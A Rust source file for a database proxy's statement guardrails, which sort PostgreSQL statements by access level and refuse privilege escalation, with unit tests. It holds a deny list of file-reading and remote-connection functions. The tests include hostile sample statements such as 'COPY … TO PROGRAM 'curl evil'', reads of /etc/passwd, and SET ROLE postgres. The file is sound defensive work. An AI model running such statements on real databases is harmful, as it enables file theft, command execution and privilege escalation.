//! Statement guardrails: what each access level may run. The database enforces the grant
//! too (each level logs in as its own role, read sessions are read-only); this is the
//! proxy's half, refusing with SQLSTATE 42501 before anything reaches the database.
//!
//! The classification fails closed: a statement sqlparser cannot parse is treated as
//! unknown, which only an `admin` grant may run.

use sqlparser::ast::{CopyTarget, Statement};
use sqlparser::dialect::PostgreSqlDialect;
use sqlparser::parser::Parser;
use sqlparser::tokenizer::{Token, Tokenizer};

use dashmap::DashMap;

use crate::policy::AccessLevel;
use crate::sql::StatementKind;

/// What a statement does, for the guardrails.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Class {
    /// Reads data or catalog (SELECT, SHOW, COPY … TO STDOUT, EXPLAIN).
    Read,
    /// Harmless session and transaction control (BEGIN, COMMIT, SET search_path, …).
    Session,
    /// Changes data (INSERT, UPDATE, DELETE, MERGE, COPY FROM STDIN, CALL, …).
    Write,
    /// Changes schema (CREATE, ALTER, DROP, TRUNCATE, GRANT, …).
    Ddl,
    /// Could widen what the grant allows (SET ROLE, ALTER SYSTEM, COPY … PROGRAM, DO, …).
    Escalation(&'static str),
    /// sqlparser cannot parse it.
    Unknown,
}

/// A refusal: the rule's name and the message the client sees.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Refusal {
    pub rule: &'static str,
    pub message: String,
}

/// What the proxy knows about one statement's text: its audit kind and its class.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Analysis {
    pub kind: StatementKind,
    pub class: Class,
}

/// Analyses one statement's text: one tokenizer pass and one parse.
pub fn analyze(statement: &str) -> Analysis {
    let dialect = PostgreSqlDialect {};
    let tokens = Tokenizer::new(&dialect, statement)
        .tokenize()
        .unwrap_or_default();
    let words = leading_words(&tokens);
    let parsed = Parser::parse_sql(&dialect, statement);
    let ast = match &parsed {
        Ok(list) if list.len() == 1 => list.first(),
        _ => None,
    };
    let kind = ast
        .map(crate::sql::kind_of)
        .unwrap_or(StatementKind::Unknown);
    let class = if let Some(rule) = escalation_by_words(&words) {
        Class::Escalation(rule)
    } else if calls_escaping_function(&tokens) {
        Class::Escalation("escaping_function")
    } else {
        match (ast, &parsed) {
            (Some(statement), _) => classify_ast(statement),
            (None, Ok(_)) => Class::Unknown,
            (None, Err(_)) => classify_unparsed(&words).unwrap_or(Class::Unknown),
        }
    };
    Analysis { kind, class }
}

/// Statements longer than this are analysed every time rather than cached.
const CACHEABLE_LEN: usize = 8 * 1024;
/// The cache is emptied when it holds this many statements.
const CACHE_ENTRIES: usize = 50_000;

/// Analyses by statement text, shared by all sessions: a statement sent again (prepared
/// statements, ORMs, monitoring queries) costs one hash lookup instead of a parse.
/// It memoizes a pure function of the text, so sharing it process-wide is safe.
pub fn analyze_cached(statement: &str) -> Analysis {
    static CACHE: std::sync::LazyLock<DashMap<Box<str>, Analysis>> =
        std::sync::LazyLock::new(DashMap::new);
    if statement.len() > CACHEABLE_LEN {
        return analyze(statement);
    }
    if let Some(hit) = CACHE.get(statement) {
        return *hit;
    }
    let analysis = analyze(statement);
    if CACHE.len() >= CACHE_ENTRIES {
        CACHE.clear();
    }
    CACHE.insert(statement.into(), analysis);
    analysis
}

/// Whether `access` may run `statement` (one statement's text).
pub fn check(access: AccessLevel, statement: &str) -> Result<(), Refusal> {
    check_class(access, analyze_cached(statement).class)
}

/// Whether `access` may run a statement of `class`.
pub fn check_class(access: AccessLevel, class: Class) -> Result<(), Refusal> {
    let refuse = |rule: &'static str, what: &str| {
        Err(Refusal {
            rule,
            message: format!(
                "lockbox: {what} is not allowed under a {} grant (rule {rule})",
                access.as_str()
            ),
        })
    };
    match (access, class) {
        (AccessLevel::Admin, _) => Ok(()),
        (_, Class::Read | Class::Session) => Ok(()),
        (AccessLevel::Write, Class::Write | Class::Ddl) => Ok(()),
        (_, Class::Escalation(rule)) => refuse(rule, "this statement"),
        (AccessLevel::Read, Class::Write) => refuse("read_only", "changing data"),
        (AccessLevel::Read, Class::Ddl) => refuse("read_only", "changing the schema"),
        (_, Class::Unknown) => refuse("unparsable", "a statement lockbox cannot parse"),
    }
}

/// Functions that read files, run other SQL, reach other servers or change settings and
/// roles: only an admin grant may call them.
const ESCAPING_FUNCTIONS: &[&str] = &[
    "set_config",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_file_write",
    "lo_import",
    "lo_export",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "query_to_xml",
    "query_to_xml_and_xmlschema",
    "query_to_xmlschema",
    "cursor_to_xml",
];

/// Settings that hold the grant in place.
const PROTECTED_SETTINGS: &[&str] = &[
    "role",
    "session_authorization",
    "default_transaction_read_only",
    "transaction_read_only",
];

pub fn classify(statement: &str) -> Class {
    analyze(statement).class
}

/// Statements sqlparser's PostgreSQL dialect does not parse but whose effect their first
/// words tell: COPY as sent on the wire (sqlparser expects the data inline) and the
/// maintenance commands.
fn classify_unparsed(words: &[String]) -> Option<Class> {
    match words.first().map(String::as_str) {
        Some("copy") => {}
        Some("vacuum" | "analyze" | "analyse" | "cluster" | "reindex") => {
            return Some(Class::Write)
        }
        Some("refresh") if words.get(1).map(String::as_str) == Some("materialized") => {
            return Some(Class::Write)
        }
        _ => return None,
    }
    let has = |w: &str| words.iter().any(|x| x == w);
    if has("program") {
        Some(Class::Escalation("copy_program"))
    } else if has("stdin") {
        Some(Class::Write)
    } else if has("stdout") {
        Some(Class::Read)
    } else {
        None
    }
}

/// The first words of a statement, lowercased, whitespace and comments skipped.
fn leading_words(tokens: &[Token]) -> Vec<String> {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::Word(w) => Some(w.value.to_lowercase()),
            Token::Whitespace(_) => None,
            other => Some(other.to_string().to_lowercase()),
        })
        .take(12)
        .collect()
}

fn escalation_by_words(words: &[String]) -> Option<&'static str> {
    let w: Vec<&str> = words.iter().map(String::as_str).collect();
    // Skip an optional SESSION/LOCAL after SET.
    let after_set = match w.as_slice() {
        ["set", "session" | "local", rest @ ..] if rest.first() != Some(&"authorization") => rest,
        ["set", rest @ ..] => rest,
        _ => &[][..],
    };
    match (w.as_slice(), after_set) {
        (["alter", "system", ..], _) => Some("alter_system"),
        (["load", ..], _) => Some("load"),
        (["do", ..], _) => Some("do_block"),
        (["create", "extension", ..], _) | (["create", "or", "replace", "extension", ..], _) => {
            Some("create_extension")
        }
        (["reset", "role" | "session", ..], _) => Some("role_change"),
        (["set", "session", "authorization", ..], _) => Some("role_change"),
        (_, ["role", ..]) => Some("role_change"),
        (_, [name, ..]) if PROTECTED_SETTINGS.contains(name) => Some("read_only_setting"),
        _ if opens_read_write(&w) => Some("read_write_transaction"),
        _ => None,
    }
}

/// `BEGIN … READ WRITE`, `START TRANSACTION … READ WRITE`, `SET [SESSION CHARACTERISTICS AS]
/// TRANSACTION … READ WRITE`.
fn opens_read_write(w: &[&str]) -> bool {
    let transactional = matches!(w.first(), Some(&"begin") | Some(&"start"))
        || (w.first() == Some(&"set") && w.contains(&"transaction"));
    transactional && w.windows(2).any(|p| p == ["read", "write"])
}

fn calls_escaping_function(tokens: &[Token]) -> bool {
    let significant: Vec<&Token> = tokens
        .iter()
        .filter(|t| !matches!(t, Token::Whitespace(_)))
        .collect();
    significant.windows(2).any(|pair| match pair {
        [Token::Word(w), Token::LParen] => {
            ESCAPING_FUNCTIONS.contains(&w.value.to_lowercase().as_str())
        }
        _ => false,
    })
}

fn classify_ast(statement: &Statement) -> Class {
    use Statement as S;
    match statement {
        S::Query(query) => {
            // SELECT … INTO creates a table; FOR UPDATE/SHARE takes row locks.
            let text = query.to_string().to_lowercase();
            if text.contains(" into ") && !text.contains(" into strict ") {
                return Class::Write;
            }
            if !query.locks.is_empty() {
                return Class::Write;
            }
            Class::Read
        }
        S::Explain {
            analyze, statement, ..
        } => {
            if *analyze {
                classify_ast(statement)
            } else {
                Class::Read
            }
        }
        S::ExplainTable { .. }
        | S::ShowVariable { .. }
        | S::ShowVariables { .. }
        | S::ShowStatus { .. }
        | S::ShowFunctions { .. }
        | S::ShowCreate { .. }
        | S::ShowColumns { .. }
        | S::ShowTables { .. }
        | S::ShowDatabases { .. }
        | S::ShowSchemas { .. }
        | S::ShowViews { .. }
        | S::ShowCollation { .. }
        | S::ShowObjects { .. }
        | S::ShowCharset { .. }
        | S::Fetch { .. }
        | S::Close { .. } => Class::Read,
        S::Declare { .. } => Class::Read,
        S::Copy { to, target, .. } => match target {
            CopyTarget::Program { .. } => Class::Escalation("copy_program"),
            CopyTarget::File { .. } => Class::Escalation("copy_file"),
            _ if *to => Class::Read,
            _ => Class::Write,
        },
        S::StartTransaction { .. }
        | S::Commit { .. }
        | S::Rollback { .. }
        | S::Savepoint { .. }
        | S::ReleaseSavepoint { .. }
        | S::Set(_)
        | S::Discard { .. }
        | S::Deallocate { .. }
        | S::LISTEN { .. }
        | S::UNLISTEN { .. } => Class::Session,
        S::Insert { .. }
        | S::Update { .. }
        | S::Delete { .. }
        | S::Merge { .. }
        | S::Call { .. }
        | S::Execute { .. }
        | S::Prepare { .. }
        | S::NOTIFY { .. }
        | S::LockTables { .. }
        | S::Analyze { .. }
        | S::Vacuum { .. } => Class::Write,
        S::Grant { .. } | S::Revoke { .. } | S::CreateRole { .. } | S::AlterRole { .. } => {
            Class::Ddl
        }
        _ => match crate::sql::kind_of(statement) {
            crate::sql::StatementKind::Ddl => Class::Ddl,
            // Anything else sqlparser knows but we have not placed: fail closed.
            _ => Class::Unknown,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classes() {
        let check = |sql: &str, class: Class| assert_eq!(classify(sql), class, "{sql}");
        check("select * from t where a = 1", Class::Read);
        check(
            "SELECT count(*) FROM pg_catalog.pg_class c WHERE c.relkind = 'r'",
            Class::Read,
        );
        check("show search_path", Class::Read);
        check("explain select 1", Class::Read);
        check("explain analyze delete from t", Class::Write);
        check("copy t to stdout", Class::Read);
        check("copy t from stdin", Class::Write);
        check("begin", Class::Session);
        check("begin read only", Class::Session);
        check("set search_path = public", Class::Session);
        check("insert into t values (1)", Class::Write);
        check("select * into t2 from t", Class::Write);
        check("select * from t for update", Class::Write);
        check("create table x (a int)", Class::Ddl);
        check("drop table t", Class::Ddl);
        check("truncate t", Class::Ddl);
        check("vacuum analyze pgbench_branches", Class::Write);
        check("refresh materialized view mv", Class::Write);
        check("frobnicate", Class::Unknown);
    }

    #[test]
    fn escalations_are_named() {
        let check = |sql: &str, rule: &'static str| {
            assert_eq!(classify(sql), Class::Escalation(rule), "{sql}")
        };
        check("SET ROLE postgres", "role_change");
        check("set local role postgres", "role_change");
        check("SET SESSION AUTHORIZATION postgres", "role_change");
        check("RESET ROLE", "role_change");
        check(
            "set default_transaction_read_only = off",
            "read_only_setting",
        );
        check(
            "SET SESSION default_transaction_read_only TO off",
            "read_only_setting",
        );
        check("set transaction_read_only = off", "read_only_setting");
        check("BEGIN READ WRITE", "read_write_transaction");
        check(
            "start transaction isolation level serializable, read write",
            "read_write_transaction",
        );
        check("SET TRANSACTION READ WRITE", "read_write_transaction");
        check(
            "set session characteristics as transaction read write",
            "read_write_transaction",
        );
        check("ALTER SYSTEM SET work_mem = '1GB'", "alter_system");
        check("COPY t TO PROGRAM 'curl evil'", "copy_program");
        check("copy t from '/etc/passwd'", "copy_file");
        check("CREATE EXTENSION dblink", "create_extension");
        check("LOAD 'auto_explain'", "load");
        check("DO $$ BEGIN PERFORM 1; END $$", "do_block");
        check(
            "select set_config('role', 'postgres', false)",
            "escaping_function",
        );
        check(
            "select pg_catalog.pg_read_file('/etc/passwd')",
            "escaping_function",
        );
        check("SELECT lo_import('/etc/passwd')", "escaping_function");
        check(
            "select * from dblink('host=x', 'delete from t') as t(a int)",
            "escaping_function",
        );
    }

    #[test]
    fn grants() {
        let ok = |access, sql: &str| assert!(check(access, sql).is_ok(), "{access:?} {sql}");
        let no = |access, sql: &str, rule: &str| {
            let refusal = check(access, sql).expect_err(sql);
            assert_eq!(refusal.rule, rule, "{sql}");
            assert!(refusal.message.contains(rule));
        };
        ok(AccessLevel::Read, "select 1");
        no(AccessLevel::Read, "update t set a = 1", "read_only");
        no(AccessLevel::Read, "create table x (a int)", "read_only");
        no(AccessLevel::Read, "not sql at all", "unparsable");
        ok(AccessLevel::Write, "update t set a = 1");
        ok(AccessLevel::Write, "create index on t (a)");
        no(AccessLevel::Write, "set role postgres", "role_change");
        no(AccessLevel::Write, "not sql at all", "unparsable");
        ok(AccessLevel::Admin, "set role postgres");
        ok(AccessLevel::Admin, "not sql at all");
    }
}
